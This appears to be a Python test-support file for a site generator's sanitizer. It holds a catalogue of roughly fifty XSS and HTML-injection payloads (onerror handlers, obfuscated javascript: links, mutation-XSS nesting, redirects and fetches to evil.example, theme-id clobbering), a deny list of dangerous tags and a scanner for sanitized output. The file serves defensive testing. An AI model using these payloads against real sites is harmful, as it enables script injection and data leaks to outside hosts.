"""Hostile bodies, written as an attacker would try them, and a scanner for what a page must never hold.

Each payload, if it got through, would run script (a dialog, `window.__pwned`, a changed title),
make a request to another origin (evil.example), or clobber the theme (its `#__config`, its
classes, a fixed element over the page). The classes follow the outside review of issue 11:
places where a line-by-line check and a Markdown parser read a body differently, links and images
written every way Markdown allows, HTML that browsers parse differently from Python, and the
theme's own ids and classes. `tests/test_sanitize.py` feeds them to the sanitizer directly;
`tests/test_hostile_site.py` builds a site of all of them and opens every page in Chromium.
"""

from __future__ import annotations

import re
from urllib.parse import urljoin, urlsplit

from bs4 import BeautifulSoup, Comment

from generator.content import sanitize

RUN = "alert(1)"
EVIL = "https://evil.example"

PAYLOADS: dict[str, str] = {
    # --- where a line-by-line check and the Markdown parser disagree -------------------------------
    "fence-indented": "   ```\n<script>alert(1)</script>\n   ```\n\n  ```\n<img src=x onerror=alert(1)>\n",
    "fence-unclosed": "```\n<img src=x onerror=alert(1)>\n",
    "fence-info-with-spaces": "``` js title='x'\n```\n<img src=x onerror=alert(1)>\n",
    "fence-attribute-list": "```{.mermaid #__config}\ngraph TD; A-->B\n```\n",
    "fence-tilde-mixed": "~~~\n```\n~~~\n<img src=x onerror=alert(1)>\n",
    "code-span-in-html-block": "<div>\n`<img src=x onerror=alert(1)>`\n</div>\n",
    "at-sign-shape-in-html-block": "<div>\n<a@x onmouseover=alert(1)>x</a> <img src=x@y onerror=alert(1)>\n</div>\n",
    "autolink-shape": "<javascript:alert(1)> <img/src=x@y/onerror=alert(1)>\n",
    "comment-bang-end": "<!-- x --!><img src=x onerror=alert(1)> -->\n",
    "comment-short-end": "<!--><img src=x onerror=alert(1)>-->\n\n<!---><img src=x onerror=alert(1)>-->\n",
    "comment-unclosed": "text <!-- <img src=x onerror=alert(1)>\n",
    "cdata": "<![CDATA[><img src=x onerror=alert(1)>]]>\n",
    "processing-instruction": "<?x ><img src=x onerror=alert(1)>?>\n",
    "tag-open-at-end": 'text\n\n<a href="#" onmouseover="alert(1)" title="',
    "tag-unquoted-open-at-end": "text <img src=x onerror=alert(1)//",
    "html-in-list-continuation": "- item\n\n    <img src=x onerror=alert(1)>\n",
    "escaped-backticks": "\\`<img src=x onerror=alert(1)>\\`\n",
    "nested-quote-list-html": "> - > <img src=x onerror=alert(1)>\n",
    # --- links Markdown makes in every way it allows -----------------------------------------------
    "link-reference-definition": "[לחצו][x]\n\n[x]: javascript:alert(1)\n",
    "link-reference-in-blockquote": "> [לחצו][y]\n>\n> [y]: javascript:alert(1)\n",
    "link-in-list": "- [לחצו](javascript:alert(1))\n- [ועוד](JaVaScRiPt:alert(1))\n",
    "link-url-on-next-line": "[לחצו](\njavascript:alert(1))\n\n[z]:\n  javascript:alert(1)\n\n[z]\n",
    "link-entities": "[a](&#106;avascript:alert(1)) [b](java&#x09;script:alert(1)) [c](&#0000106avascript:alert(1))\n",
    "link-data-and-vbscript": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [b](vbscript:msgbox(1))\n",
    "html-link-schemes": (
        '<a href="jav&#x09;ascript:alert(1)">a</a> <a href=" javascript:alert(1)">b</a> '
        '<a href="&#x6A;avascript:alert(1)">c</a> <a href="data:text/html,<script>alert(1)</script>">d</a>\n'
    ),
    # --- requests to other origins ----------------------------------------------------------------
    "image-upper-case-scheme": "![x](HTTPS://evil.example/a.png)\n",
    "image-no-slashes": "![x](https:evil.example/b.png) ![y](//evil.example/c.png) ![z](\\\\evil.example/d.png)\n",
    "image-backslash-host": "![x](/\\evil.example/e.png) ![y](\\/evil.example/f.png)\n",
    "image-reference-style": "![x][img]\n\n[img]: https://evil.example/g.png\n",
    "image-brackets-in-alt": "![a [b] c](https://evil.example/h.png)\n",
    "image-html": (
        '<img src="https://evil.example/i.png"> <img srcset="https://evil.example/j.png 1x"> '
        '<video poster="https://evil.example/k.png"></video> <input type="image" src="https://evil.example/l.png">\n'
    ),
    "mermaid-fence": "```mermaid\ngraph TD; A-->B\n```\n",
    "mermaid-html": '<pre class="mermaid">graph TD; A-->B</pre>\n\n<div class="mermaid">graph TD; C-->D</div>\n',
    "style-and-link": (
        "<style>@import 'https://evil.example/x.css'; body{display:none}</style>\n\n"
        '<link rel="stylesheet" href="https://evil.example/y.css">\n\n'
        '<div style="background:url(https://evil.example/z.png);position:fixed;inset:0">x</div>\n'
    ),
    # --- elements that run script by themselves -----------------------------------------------
    "script-tags": "<script>alert(1)</script>\n\n<SCRIPT SRC=https://evil.example/x.js></SCRIPT>\n",
    "svg-and-math": (
        "<svg onload=alert(1)><script>alert(1)</script></svg>\n\n"
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>\n"
    ),
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\n',
    "frames-and-objects": (
        '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>\n\n'
        '<object data="javascript:alert(1)"></object> <embed src="https://evil.example/x.swf">\n'
    ),
    "form-and-autofocus": (
        '<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>\n\n'
        "<input autofocus onfocus=alert(1)> <details open ontoggle=alert(1)>x</details>\n"
    ),
    "base-and-refresh": (
        '<base href="https://evil.example/">\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n'
    ),
    "template-and-textarea": (
        "<template><img src=x onerror=alert(1)></template><textarea><img src=x onerror=alert(1)></textarea>\n"
    ),
    "event-attributes": (
        '<span onclick="alert(1)" onmouseover="alert(1)">a</span> <b onpointerenter=alert(1)>b</b> '
        '<abbr title="x" onfocus=alert(1) tabindex=0>c</abbr>\n'
    ),
    # --- the theme's own ids and classes ----------------------------------------------------
    "setext-config": "__config\n========\n\n__drawer\n--------\n",
    "html-ids": '<h2 id="__config">a</h2> <p id="__search">b</p> <span id="kb-content">c</span> <a name="__config">d</a>\n',
    "outcome-anchor": "## outcome-1\n\n<h3 id='outcome-2'>x</h3>\n",
    "admonition-theme-class": '!!! md-dialog md-dialog--active "x"\n    y\n\n!!! "md-sidebar"\n    z\n',
    "html-theme-classes": (
        '<div class="md-dialog md-dialog--active" data-md-component="dialog" data-md-state="open">x</div>\n\n'
        '<span class="kb-offline md-typeset__table">y</span>\n'
    ),
    "attribute-list-bare-words": "פסקה\n{: hidden popover onclick=alert(1) }\n\n## כותרת {: #__config .md-header }\n",
    "popover-and-hidden": '<div popover>x</div> <p hidden>y</p> <div dir="x" lang="javascript:1">z</div>\n',
}
"""Name → a body. Each would, if let through, run script, fetch from evil.example or clobber the theme."""

NEVER_TAGS = frozenset(
    "script style iframe frame frameset object embed applet base form input button textarea select option template "
    "svg math noscript link meta video audio source track picture portal".split()
)


def problems_in(html: str) -> list[str]:
    """Everything in ``html`` (a body as published) that the sanitizer's lists do not allow."""
    found = []
    soup = BeautifulSoup(html, "html.parser")
    if soup.find(string=lambda text: isinstance(text, Comment)):
        found.append("a comment")
    for element in soup.find_all(True):
        name = element.name
        if name in NEVER_TAGS or name not in sanitize.TAGS:
            found.append(f"<{name}>")
        allowed = sanitize.ATTRIBUTES["*"] | sanitize.ATTRIBUTES.get(name, frozenset()) | {"class", "rel", "loading", "decoding"}
        for attribute, value in element.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if attribute not in allowed:
                found.append(f"<{name} {attribute}>")
            elif attribute == "class" and not set(text.split()) <= sanitize.CLASSES.get(name, frozenset()):
                found.append(f"<{name} class={text!r}>")
            elif attribute == "id" and not sanitize.id_allowed(text):
                found.append(f"<{name} id={text!r}>")
            elif attribute in ("href", "src", "cite"):
                scheme = sanitize.url_scheme(text)
                leaves = urlsplit(urljoin("https://site.example/a/page.html", text)).netloc != "site.example"
                if (
                    (scheme and scheme not in sanitize.URL_SCHEMES)
                    or re.match(r"\s*[/\\]", text)
                    or (attribute == "src" and leaves)
                ):
                    found.append(f"<{name} {attribute}={text!r}>")
    return found
